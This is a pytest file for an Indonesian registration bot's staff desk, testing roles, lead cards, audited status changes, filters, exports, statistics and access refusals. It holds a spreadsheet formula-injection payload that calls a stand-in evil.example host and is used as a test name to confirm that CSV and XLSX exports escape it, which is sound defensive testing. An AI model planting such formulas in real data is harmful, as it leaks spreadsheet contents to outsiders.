"""The staff desk through the emulator: roles, lead list and card, follow-up with audit, notes,
filters, export files, statistics with a chart, unanswered questions, and every staff button
refused to a citizen."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import UTC, datetime, time, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from openpyxl import load_workbook

from bot.i18n import Texts
from desk.export import ExportFilters
from desk.filters import (
    FilterCodeError,
    FilterError,
    decode_filters,
    encode_filters,
    parse_filter_args,
)
from store import Stores, clock
from tests.emulator import BotAPIEmulator
from tests.harness import REPO, BotHarness, Reply, make_config

STAFF, ADMIN, CITIZEN = 900, 901, 5001
TEXTS = Texts.load()
STAFF_ONLY = TEXTS.get("staff_only", "id")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def staff_config(emu: BotAPIEmulator, data_dir: Path, *, group: int | None = None) -> Any:
    """The repository's config with an admin, a staff member (BOT_STAFF_IDS) and a group."""
    raw = yaml.safe_load((REPO / "config.yaml").read_text(encoding="utf-8"))
    raw["staff"] = {"admins": [ADMIN], "staff": [], "group_chat_id": group}
    path = data_dir.parent / "staff-config.yaml"
    path.write_text(yaml.safe_dump(raw), encoding="utf-8")
    return make_config(emu, data_dir, BOT_CONFIG=str(path), BOT_STAFF_IDS=str(STAFF))


def stores_of(bot: BotHarness) -> Stores:
    assert bot.app is not None
    stores: Stores = bot.app.bot_data["services"].stores
    return stores


def registration(bot: BotHarness, number: str) -> dict[str, Any]:
    record = stores_of(bot).registrations.get(number)
    assert record is not None, number
    return record


def seed(stores: Stores, count: int, **fields: Any) -> list[str]:
    """``count`` registrations saved as the registration flow does; their numbers, oldest first."""
    numbers = []
    for i in range(count):
        user = 20_000 + len(stores.registrations) + 1
        data = {
            "full_name": f"Warga Ke-{i}",
            "nik": f"3673014101{990000 + user % 10_000:06d}",
            "phone": f"+6281234{user:06d}",
            "kecamatan": "serang" if i % 2 else "cipocok_jaya",
            "kelurahan": "cipare" if i % 2 else "karundang",
            "domicile_confirmed": True,
            "programmes": ["korea_work"],
            "training_willing": True,
            "screening": {"eps_korea": "eligible"},
            **fields,
        }
        record, _ = stores.registrations.save(user, user, data, actor=user)
        numbers.append(record["reg_no"])
    return numbers


def last_answer(bot: BotHarness) -> dict[str, Any]:
    call = bot.emu.calls_for("answerCallbackQuery")[-1]
    return {k: v for k, v in call.params.items() if k != "callback_query_id"}


# -- pure parts ----------------------------------------------------------------------------------


def test_filter_codes_round_trip_and_stay_short() -> None:
    args = "program=eps_korea hasil=needs_preparation kecamatan=taktakan status=dihubungi"
    flt = parse_filter_args([*args.split(), "sejak=2026-11-01", "sampai=30-11-2026"])
    code = encode_filters(flt)
    assert decode_filters(code) == flt
    assert len(f"st:s:SRG-2026-000123:5.3:999:{code}".encode()) <= 64
    assert decode_filters("") == ExportFilters()
    for bad in ("s9", "x1", "a20261340", "s0;", "p99"):
        with pytest.raises(FilterCodeError):
            decode_filters(bad)
    for bad_args in (["status=kabur"], ["warna=merah"], ["sejak=kemarin"], ["baru"]):
        with pytest.raises(FilterError):
            parse_filter_args(bad_args)


# -- roles ---------------------------------------------------------------------------------------


async def test_staff_commands_are_refused_to_citizens(desk: BotHarness) -> None:
    for command in ("/pendaftar", "/ekspor csv", "/statistik", "/pertanyaan", "/tutup"):
        [refusal] = await desk.send(CITIZEN, command)
        assert refusal.text == STAFF_ONLY, command
    assert not desk.emu.calls_for("sendDocument") and not desk.emu.calls_for("sendPhoto")


async def test_staff_commands_are_only_in_staff_menus(desk: BotHarness) -> None:
    menus = {
        (str(c.params.get("scope")), c.params.get("language_code")): c.params["commands"]
        for c in desk.emu.calls_for("setMyCommands")
    }
    staff_menu = next(cmds for (scope, _), cmds in menus.items() if str(STAFF) in scope)
    assert {"pendaftar", "ekspor", "statistik", "pertanyaan", "tutup"} <= {
        c["command"] for c in staff_menu
    }
    default_menus = [cmds for (scope, _), cmds in menus.items() if "default" in scope]
    assert default_menus
    for commands in default_menus:
        assert "pendaftar" not in {c["command"] for c in commands}


async def test_help_lists_the_staff_commands_for_staff(desk: BotHarness) -> None:
    [help_reply] = await desk.send(STAFF, "/help")
    assert "/ekspor" in help_reply.text and "/pengumuman" in help_reply.text
    assert "/daftar" in help_reply.text


async def test_desk_commands_in_a_group_point_to_a_private_chat(desk: BotHarness) -> None:
    group = -100_555
    [pointer] = await desk.send(STAFF, "/ekspor csv", chat_id=group, chat_type="supergroup")
    assert "chat pribadi" in pointer.text
    [refusal] = await desk.send(CITIZEN, "/pendaftar", chat_id=group - 1, chat_type="supergroup")
    assert refusal.text == STAFF_ONLY
    assert not desk.emu.calls_for("sendDocument")
    # A group other than the staff group gets one reply a minute at most, not one per command.
    again = await desk.send(CITIZEN, "/pendaftar", chat_id=group, chat_type="supergroup")
    assert again == []


# -- leads ---------------------------------------------------------------------------------------


async def test_lead_list_pages_and_cards(desk: BotHarness) -> None:
    numbers = seed(stores_of(desk), 11)
    [first] = await desk.send(STAFF, "/pendaftar")
    assert "11 orang" in first.text and "halaman 1/2" in first.text
    assert numbers[-1] in first.text and numbers[0] not in first.text  # newest first
    assert sum(1 for _, data in first.buttons if data.startswith("st:c:")) == 8

    [second] = await desk.press(STAFF, first, "Berikutnya")
    assert second.method == "editMessageText" and "halaman 2/2" in second.text
    assert numbers[0] in second.text
    assert sum(1 for _, data in second.buttons if data.startswith("st:c:")) == 3

    [card] = await desk.press(STAFF, second, numbers[0])
    assert "Warga Ke-0" in card.text
    assert "3673********" in card.text  # NIK masked for staff
    assert "+62 812-34" in card.text  # phone formatted: Telegram makes it tappable
    assert "Cipocok Jaya" in card.text and "Kerja ke Korea" in card.text
    assert "EPS Korea: memenuhi syarat awal" in card.text
    assert "mendaftar" in card.text  # history

    [back] = await desk.press(STAFF, card, "Daftar pendaftar")
    assert "halaman 2/2" in back.text


async def test_admins_see_the_full_nik(desk: BotHarness) -> None:
    [number] = seed(stores_of(desk), 1)
    nik = registration(desk, number)["nik"]
    [admin_card] = await desk.send(ADMIN, f"/pendaftar {number.lower()}")
    assert nik in admin_card.text
    [staff_card] = await desk.send(STAFF, f"/pendaftar {number}")
    assert nik not in staff_card.text and nik[:4] + "********" in staff_card.text


async def test_status_pipeline_is_audited(desk: BotHarness) -> None:
    [number] = seed(stores_of(desk), 1)
    [card] = await desk.send(STAFF, f"/pendaftar {number}")
    [contacted] = await desk.press(STAFF, card, "sudah dihubungi")
    assert "Status:</b> sudah dihubungi" in contacted.text
    assert "status baru → sudah dihubungi" in contacted.text
    assert "Status diubah" in last_answer(desk)["text"]

    [reasons] = await desk.press(STAFF, contacted, "Tidak lanjut")
    assert "Pilih alasannya" in reasons.text
    [dropped] = await desk.press(STAFF, reasons, "Tidak bisa dihubungi")
    assert "tidak lanjut (alasan: Tidak bisa dihubungi)" in dropped.text
    assert not any("Tidak lanjut" in label for label, _ in dropped.buttons)

    record = stores_of(desk).registrations.get(number)
    assert record is not None
    assert (record["status"], record["status_reason"]) == ("tidak_lanjut", "unreachable")
    audit = stores_of(desk).audit.list(number)
    assert [(a["action"], a["actor"], a["details"]["to"]) for a in audit] == [
        ("lead_status", STAFF, "tidak_lanjut"),
        ("lead_status", STAFF, "dihubungi"),
    ]
    assert audit[0]["details"] == {
        "from": "dihubungi",
        "to": "tidak_lanjut",
        "reason": "unreachable",
    }
    assert audit[0]["at"]


async def reply_to(bot: BotHarness, user: int, prompt: Reply, text: str) -> list[Reply]:
    """The user answers a ForceReply prompt of the bot."""
    assert prompt.message_id is not None
    original = bot.emu.message(user, prompt.message_id)
    assert original is not None
    if "inline_keyboard" not in original.get("reply_markup", {}):
        original.pop("reply_markup", None)  # Telegram's Message carries inline keyboards only
    return await bot.send_message(user, {"text": text, "reply_to_message": original})


async def test_notes_and_typed_reasons_by_reply(desk: BotHarness) -> None:
    [number] = seed(stores_of(desk), 1)
    [card] = await desk.send(STAFF, f"/pendaftar {number}")
    [prompt] = await desk.press(STAFF, card, "Tambah catatan")
    assert prompt.params["reply_markup"]["force_reply"] is True
    [saved] = await reply_to(desk, STAFF, prompt, "Sudah ditelepon, <b>minta</b> jadwal & info")
    assert "Catatan disimpan" in saved.text
    assert "Sudah ditelepon, &lt;b&gt;minta&lt;/b&gt; jadwal &amp; info" in saved.text
    record = stores_of(desk).registrations.get(number)
    assert record is not None and record["notes"][-1]["by"] == STAFF

    [reasons] = await desk.press(STAFF, saved, "Tidak lanjut")
    [reason_prompt] = await desk.press(STAFF, reasons, "Alasan lain")
    [dropped] = await reply_to(desk, STAFF, reason_prompt, "Pindah ke luar kota")
    assert "ditandai tidak lanjut" in dropped.text
    record = stores_of(desk).registrations.get(number)
    assert record is not None
    assert (record["status_reason"], record["status_reason_text"]) == (
        "other",
        "Pindah ke luar kota",
    )
    actions = [a["action"] for a in stores_of(desk).audit.list(number)]
    assert actions == ["lead_status", "lead_note"]

    # A prompt is answered once; a second reply is an ordinary message again.
    [again] = await reply_to(desk, STAFF, prompt, "syarat umur")
    assert "Catatan disimpan" not in again.text


async def test_filters_by_buttons_and_by_arguments(desk: BotHarness) -> None:
    stores = stores_of(desk)
    numbers = seed(stores, 4)
    stores.registrations.set_status(numbers[0], "dihubungi", actor=STAFF)
    [listing] = await desk.send(STAFF, "/pendaftar")
    [overview] = await desk.press(STAFF, listing, "Filter")
    [statuses] = await desk.press(STAFF, overview, "Status tindak lanjut")
    [contacted] = await desk.press(STAFF, statuses, "sudah dihubungi")
    assert "1 orang" in contacted.text and numbers[0] in contacted.text
    assert "status sudah dihubungi" in contacted.text

    [serang] = await desk.send(STAFF, "/pendaftar kecamatan=serang status=baru")
    assert "2 orang" in serang.text and "kec. Serang" in serang.text
    [problem] = await desk.send(STAFF, "/pendaftar status=kabur")
    assert "kabur" in problem.text and "dihubungi" in problem.text
    [today] = await desk.send(STAFF, "/pendaftar sejak=2020-01-01 sampai=2020-01-31")
    assert "Belum ada pendaftar" in today.text


# -- export --------------------------------------------------------------------------------------


async def test_csv_export_arrives_complete_and_is_removed(
    desk: BotHarness, data_dir: Path
) -> None:
    stores = stores_of(desk)
    numbers = seed(stores, 3)
    numbers += seed(stores, 1, full_name=HYPERLINK)
    numbers += seed(stores, 1, full_name="Ñoman Śaputra Dewi")
    replies = await desk.send(STAFF, "/ekspor csv")
    [document] = [r for r in replies if r.method == "sendDocument"]
    assert "5 pendaftar" in document.text
    call = desk.emu.calls_for("sendDocument")[-1]
    upload = call.files["document"]
    assert upload.filename.startswith("pendaftar-") and upload.filename.endswith(".csv")
    rows = list(csv.reader(io.StringIO(upload.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    by_number = {row[0]: row for row in body}
    assert set(by_number) == set(numbers)
    nik_column, name_column = header.index("NIK"), header.index("Nama lengkap")
    for number in numbers:
        nik = registration(desk, number)["nik"]
        assert by_number[number][nik_column].strip() == nik and len(nik) == 16
    names = {row[name_column] for row in body}
    assert "'" + HYPERLINK in names and "Ñoman Śaputra Dewi" in names
    assert not any(path.is_file() for path in (data_dir / "exports").iterdir())
    [record] = [a for a in stores.audit.list() if a["action"] == "export"]
    assert record["actor"] == STAFF and record["details"]["rows"] == 5


async def test_xlsx_export_from_the_filtered_list(desk: BotHarness, data_dir: Path) -> None:
    stores = stores_of(desk)
    numbers = seed(stores, 4)
    [listing] = await desk.send(STAFF, "/pendaftar kecamatan=serang")
    await desk.press(STAFF, listing, "Excel")
    call = desk.emu.calls_for("sendDocument")[-1]
    workbook = load_workbook(io.BytesIO(call.files["document"].content), read_only=True)
    sheet = workbook.active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    exported = {row[0] for row in rows[1:]}
    expected = {n for n in numbers if registration(desk, n)["kecamatan"] == "serang"}
    assert exported == expected and len(expected) == 2
    assert all(isinstance(row[3], str) and len(row[3]) == 16 for row in rows[1:])
    assert not any((data_dir / "exports").iterdir())
    [record] = [a for a in stores.audit.list() if a["action"] == "export"]
    assert record["details"]["format"] == "xlsx" and record["details"]["filters"] == "k0"


NASTY_NAMES = (
    "Siti Aminah; Dewi, Nur'aini",
    "-Dede Rohéndi",
    "Ñoman Śaputra",
)
NASTY_NOTE = 'sudah ditelepon;\tminta jadwal, "pelatihan"\nbaris dua =1+1 😀'


async def test_both_exports_read_back_exactly_with_nasty_text(desk: BotHarness) -> None:
    stores = stores_of(desk)
    numbers = [seed(stores, 1, full_name=name)[0] for name in NASTY_NAMES]
    numbers += seed(stores, 1, full_name=HYPERLINK)
    for number in numbers:
        stores.registrations.add_note(number, NASTY_NOTE, actor=STAFF)
    await desk.send(STAFF, "/ekspor xlsx")
    await desk.send(STAFF, "/ekspor csv")
    xlsx_call, csv_call = desk.emu.calls_for("sendDocument")[-2:]
    sheet = load_workbook(io.BytesIO(xlsx_call.files["document"].content)).active
    assert sheet is not None
    from_xlsx = list(sheet.iter_rows(values_only=True))
    content = csv_call.files["document"].content
    assert content.startswith(b"\xef\xbb\xbf")
    from_csv = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for rows in (from_xlsx, from_csv):
        header, body = list(rows[0]), rows[1:]
        assert len(body) == len(numbers) and all(len(row) == len(header) for row in body)
        column = {name: header.index(name) for name in ("NIK", "No. HP", "Nama lengkap")}
        note = header.index("Catatan terakhir")
        for row in body:
            record = registration(desk, str(row[0]))
            assert row[column["NIK"]] == record["nik"] and len(record["nik"]) == 16
            assert row[column["No. HP"]] == record["phone"]  # "+62…", no marker
            name = record["full_name"]
            expected = "'" + name if name.startswith(("=", "-")) else name
            assert row[column["Nama lengkap"]] == expected
            assert row[note] == NASTY_NOTE
        assert {row[header.index("Status tindak lanjut")] for row in body} == {"1. baru"}


async def test_export_choice_and_empty_export(desk: BotHarness) -> None:
    [nothing] = await desk.send(STAFF, "/ekspor")
    assert "tidak ada file" in nothing.text
    seed(stores_of(desk), 2)
    [choice] = await desk.send(STAFF, "/ekspor status=baru")
    assert "2 pendaftar" in choice.text
    # The staff's file first, and what each format is for.
    assert [label for label, _ in choice.buttons] == ["⬇️ Excel (XLSX)", "⬇️ CSV (sistem lain)"]
    assert "Excel (XLSX)</b>: untuk petugas" in choice.text
    assert "CSV</b>: untuk sistem lain" in choice.text
    replies = await desk.press(STAFF, choice, "CSV")
    assert [r.method for r in replies] == ["sendDocument"]
    assert "/ekspor xlsx" in replies[0].text  # the CSV's caption steers staff to the XLSX
    replies = await desk.press(STAFF, choice, "Excel")
    assert [r.method for r in replies] == ["sendDocument"]
    assert desk.emu.calls_for("sendDocument")[-1].files["document"].filename.endswith(".xlsx")
    [bad] = await desk.send(STAFF, "/ekspor pdf")
    assert "pdf" in bad.text


# -- statistics and unanswered questions ---------------------------------------------------------


async def test_statistics_arrive_with_a_chart(desk: BotHarness, data_dir: Path) -> None:
    stores = stores_of(desk)
    seed(stores, 3)
    stores.unanswered.log("kapan pendaftaran jepang dibuka", "id")
    replies = await desk.send(STAFF, "/statistik")
    assert [r.method for r in replies] == ["sendMessage", "sendPhoto"]
    report, chart = replies
    assert "Statistik pendaftaran · semua" in report.text
    assert "total 3 pendaftar" in report.text
    assert "Cipocok Jaya: 2 — baru 2" in report.text
    assert "Alur tindak lanjut" in report.text and "• baru: 3 (100%)" in report.text
    assert "Pertanyaan tak terjawab: 1" in report.text
    assert [label for label, _ in report.buttons] == ["7 hari", "30 hari", "• Semua •"]
    photo = desk.emu.calls_for("sendPhoto")[-1].files["photo"]
    assert photo.content.startswith(b"\x89PNG")
    assert chart.text == "📈 Grafik statistik · semua"
    assert not any((data_dir / "exports").iterdir())


async def test_statistics_over_a_period_by_buttons_and_typed_dates(desk: BotHarness) -> None:
    stores = stores_of(desk)
    today = clock.today()
    repo = stores.registrations
    old = datetime.combine(today - timedelta(days=20), time(9), tzinfo=clock.zone())
    repo._clock = lambda: old.astimezone(UTC)  # two leads registered 20 days ago
    try:
        waiting = seed(stores, 2)
    finally:
        repo._clock = clock.utc_now
    seed(stores, 1)
    repo.set_status(waiting[1], "dihubungi", actor=STAFF)
    [report, _] = await desk.send(STAFF, "/statistik")
    assert "total 3 pendaftar" in report.text
    assert "baru lebih dari 3 hari: 1 · lebih dari 7 hari: 1" in report.text
    assert "paling lama menunggu: 20 hari" in report.text
    monday = today - timedelta(days=today.weekday())
    sunday = monday + timedelta(days=6)
    assert f"minggu {monday.day} " in report.text and f" – {sunday.day} " in report.text
    assert "-W" not in report.text  # no ISO week numbers

    edited, chart = await desk.press(STAFF, report, "7 hari")
    assert edited.method == "editMessageText" and edited.message_id == report.message_id
    assert "Statistik pendaftaran · 7 hari terakhir" in edited.text
    assert "total 1 pendaftar" in edited.text and "semua: 3" in edited.text
    assert ("• 7 hari •", "st:g:7") in edited.buttons
    assert chart.method == "sendPhoto" and "7 hari terakhir" in chart.text

    [back, _] = await desk.press(STAFF, edited, "30 hari")
    assert "total 3 pendaftar" in back.text

    since = today - timedelta(days=25)
    until = today - timedelta(days=10)
    typed = f"/statistik {since:%d-%m-%Y} {until:%d-%m-%Y}"
    [dated, dated_chart] = await desk.send(STAFF, typed)  # not taken for a NIK, not deleted
    assert "total 2 pendaftar" in dated.text
    assert f"{since.day} " in dated.text and f"{until.year}" in dated.text
    assert "• sudah dihubungi: 1 (50%)" in dated.text
    assert dated_chart.method == "sendPhoto"

    [problem] = await desk.send(STAFF, "/statistik kemarin")
    assert "kemarin" in problem.text and "01-11-2026 30-11-2026" in problem.text
    [backwards] = await desk.send(STAFF, f"/statistik {until:%d-%m-%Y} {since:%d-%m-%Y}")
    assert "tidak saya kenal" in backwards.text


async def test_unanswered_questions_grouped_and_marked(desk: BotHarness) -> None:
    unanswered = stores_of(desk).unanswered
    for text in (
        "kapan daftar jepang dibuka?",
        "kapan daftar jepang dibuka",
        "kapan daftar jepang",
    ):
        unanswered.log(text, "id")
    unanswered.log("apakah boleh bertato", "id")
    [listing] = await desk.send(STAFF, "/pertanyaan")
    assert "4 pertanyaan dalam 2 kelompok" in listing.text
    assert "3×" in listing.text and "1×" in listing.text
    [marked] = await desk.press(STAFF, listing, "✅ 1")
    assert "1 pertanyaan dalam 1 kelompok" in marked.text and "tato" in marked.text
    assert "3 pertanyaan ditandai" in last_answer(desk)["text"]
    assert len(unanswered.all_open()) == 1
    [record] = [a for a in stores_of(desk).audit.list() if a["action"] == "unanswered_handled"]
    assert record["actor"] == STAFF and record["details"] == {"count": 3}
    [done] = await desk.press(STAFF, marked, "✅ 1")
    assert "Tidak ada pertanyaan terbuka" in done.text


# -- every staff button: as staff, then as a citizen ---------------------------------------------


DISTINCT_QUESTIONS = (
    "kapan pendaftaran jepang dibuka",
    "apakah boleh bertato",
    "minus mata boleh ikut",
    "visa keluarga bisa ikut",
    "asrama disediakan perusahaan",
    "cuti lebaran dapat berapa hari",
    "bpjs ketenagakerjaan wajib",
    "sim internasional perlu dibuat",
    "ada les bahasa gratis di serang",
    "umur 40 masih bisa",
)


def _showing(bot: BotHarness, chat_id: int, data: str) -> int | None:
    for message in reversed(bot.emu.sent_to(chat_id)):
        if data in {d for _, d in bot.emu.buttons(message)}:
            return int(message["message_id"])
    return None


def staff_buttons(bot: BotHarness, chat_id: int) -> set[str]:
    """Every ``st:`` callback data the bot ever showed in the chat."""
    found = set()
    for call in bot.emu.calls:
        markup = call.params.get("reply_markup")
        if call.chat_id == chat_id and isinstance(markup, dict):
            for row in markup.get("inline_keyboard", []):
                found |= {b["callback_data"] for b in row if "callback_data" in b}
    return {data for data in found if data.startswith("st:")}


async def test_every_staff_button_as_staff_then_as_citizen(desk: BotHarness) -> None:
    stores = stores_of(desk)
    seed(stores, 10)
    for question in DISTINCT_QUESTIONS:  # more than one page of groups
        stores.unanswered.log(question, "id")
    # Breadth first over button paths from each command; a button no longer on screen (its
    # message was edited since) is reached again by replaying its path from the command.
    paths: dict[str, tuple[str, ...]] = {}
    for command in ("/pendaftar", "/pertanyaan", "/ekspor", "/statistik"):
        for reply in await desk.send(STAFF, command):
            paths.update({d: (command,) for _, d in reply.buttons if d not in paths})
    pressed: list[str] = []
    per_kind: Counter[str] = Counter()
    while len(pressed) < 50:
        waiting = [data for data in paths if data not in pressed]
        if not waiting:
            break
        # The least pressed kind of button first, so that no kind is starved.
        data = min(waiting, key=lambda d: (per_kind[d.split(":")[1]], len(paths[d])))
        pressed.append(data)
        per_kind[data.split(":")[1]] += 1
        if _showing(desk, STAFF, data) is None:
            command, *steps = paths[data]
            await desk.send(STAFF, command)
            for step in steps:
                step_message = _showing(desk, STAFF, step)
                if step_message is None:  # a status change on the way was made already
                    break
                await desk.press(STAFF, step_message, step)
        message_id = _showing(desk, STAFF, data)
        if message_id is None:  # the data changed on the way (a status moved on): skip it
            continue
        for reply in await desk.press(STAFF, message_id, data):  # asserts it was answered
            found = {d for _, d in reply.buttons if d.startswith("st:")}
            paths.update({d: (*paths[data], data) for d in found if d not in paths})
    kinds = {data.split(":")[1] for data in pressed}
    assert kinds >= {"l", "f", "fo", "c", "s", "t", "w", "n", "e", "u", "uh", "g", "q"}, per_kind
    assert desk.emu.rejected == []

    [welcome] = await desk.send(CITIZEN, "/start")
    assert welcome.message_id is not None
    for data in sorted(staff_buttons(desk, STAFF)):
        markup = {"inline_keyboard": [[{"text": "x", "callback_data": data}]]}
        desk.emu.set_message_markup(CITIZEN, welcome.message_id, markup)
        assert await desk.press(CITIZEN, welcome.message_id, data) == [], data
        assert last_answer(desk) == {"text": STAFF_ONLY, "show_alert": True}, data
    assert not [c for c in desk.emu.calls_for("sendDocument") if c.chat_id == CITIZEN]


async def test_export_files_left_by_a_crash_are_removed_at_start_up(
    emu: BotAPIEmulator, data_dir: Path
) -> None:
    folder = data_dir / "exports"
    folder.mkdir(parents=True)
    leftover = folder / "export-0123456789ab.csv"
    leftover.write_text("reg_no,nik\nSRG-2026-000001,3673014101990001\n")
    harness = BotHarness(emu, staff_config(emu, data_dir))
    await harness.start()
    try:
        assert not leftover.exists(), "a file with NIKs outlived the export that wrote it"
    finally:
        await harness.stop()
